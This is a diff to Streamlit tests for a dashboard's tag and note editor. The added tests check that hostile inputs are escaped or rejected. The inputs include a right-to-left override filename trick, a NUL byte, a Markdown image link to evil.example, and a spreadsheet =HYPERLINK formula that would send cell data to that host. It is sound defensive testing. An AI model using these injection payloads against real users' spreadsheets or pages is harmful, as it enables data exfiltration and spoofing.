@@ -56,7 +56,19 @@ def test_the_explorer_section_saves_tags_and_notes_and_a_restart_shows_them(dash
     at.text_area(key="explorer_note").input("a tree labelled building").run()
     assert tags.mark(entry.city, entry.stem).note == "a tree labelled building"
     at.multiselect(key="explorer_tags").select("a;b").run()  # a bad tag: a reason, nothing written
-    assert "';'" in at.error[0].value and len(tags.mark(entry.city, entry.stem).tags) == 2
+    assert "\\'\\;\\'" in at.error[0].value and len(tags.mark(entry.city, entry.stem).tags) == 2
+    at.multiselect(key="explorer_tags").select("\u202etxt.exe").run()  # an invisible character: named
+    assert "U\\+202E RIGHT-TO-LEFT OVERRIDE" in at.error[0].value and "\u202e" not in at.error[0].value
+    assert len(tags.mark(entry.city, entry.stem).tags) == 2
+    at.text_area(key="explorer_note").input("nul\x00inside").run()
+    assert "U\\+0000" in at.error[0].value and tags.mark(entry.city, entry.stem).note == "a tree labelled building"
+    at.text_area(key="explorer_note").input("a tree labelled building").run()
+    # a tag that is Markdown is said as typed: no image fetched, no link
+    at.multiselect(key="explorer_tags").select("![x](http://evil.example/p.png)").run()
+    said = at.success[0].value
+    assert "added \\!\\[x\\]\\(http\\:\\/\\/evil\\.example\\/p\\.png\\)" in said and "](" not in said
+    at.multiselect(key="explorer_tags").unselect("![x](http://evil.example/p.png)").run()
+    assert tags.mark(entry.city, entry.stem).tags == ("border", "lens flare")
 
     restarted = _section(entry.id)  # a new session: everything comes from the file
     assert restarted.multiselect(key="explorer_tags").value == ["border", "lens flare"]
@@ -121,8 +133,43 @@ def test_the_tags_page_filters_counts_and_downloads_the_rows_shown(dashboard_sto
     assert list(linked.dataframe[0].value["stem"]) == [third.stem]
     assert [row["note"] for row in _csv_rows(downloads[-1][0])] == ["Tree labelled as building"]
 
+    # the table shows a tag and a note as typed; the CSV keeps a spreadsheet from running the note
+    fourth = _entries(store)[3]
+    tags.add_tag(fourth.city, fourth.stem, "[click me](http://evil.example)")
+    tags.set_note(fourth.city, fourth.stem, '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    at = AppTest.from_file(PAGE, default_timeout=60).run()
+    row = at.dataframe[0].value.set_index("stem").loc[fourth.stem]
+    assert (row["tags"], row["note"]) == ("[click me](http://evil.example)", '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    assert not any("evil" in str(element.value) for element in [*at.markdown, *at.caption, *at.error, *at.warning])
+    [saved] = [row for row in _csv_rows(downloads[-1][0]) if row["stem"] == fourth.stem]
+    assert saved["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+
     (Path(store.artifacts) / TAGS_FILE).write_bytes(b"damaged" * 200)  # a damaged file: said, not shown
     broken = AppTest.from_file(PAGE, default_timeout=60).run()
     assert TAGS_FILE in broken.error[0].value and str(store.artifacts) not in broken.error[0].value
     section = _section(first.id)
     assert TAGS_FILE in section.warning[0].value and not section.multiselect
+
+
+def test_the_tag_picker_offers_no_select_all(dashboard_store_copy):
+    """Issue 25: "Select all" put every known tag on one image in one click."""
+    store = dashboard_store_copy
+    at = _section(_entries(store)[0].id)
+    chips = at.multiselect(key="explorer_tags")
+    assert len(chips.options) > 2  # enough tags for Streamlit to offer the bulk action
+    assert chips.proto.HasField("select_all") and chips.proto.select_all == 0  # 0: never shown
+
+
+def test_the_tags_table_names_its_columns_at_widths_that_fit(dashboard_store_copy):
+    """Issue 25: the "updated" column and the link were cut."""
+    import json
+
+    store = dashboard_store_copy
+    entry = _entries(store)[0]
+    TagStore(store.artifacts).add_tag(entry.city, entry.stem, "border")
+    at = AppTest.from_file(PAGE, default_timeout=60).run()
+    config = json.loads(at.dataframe[0].proto.columns)
+    updated = config["updated"]
+    assert updated["label"] == "updated (UTC)" and updated["width"] >= 8 * len("2026-12-04 05:07:29")
+    assert config["open"]["width"] >= 8 * len("explorer ↗")
+    assert all(config[column].get("width") for column in ("id", "city", "stem", "tags"))
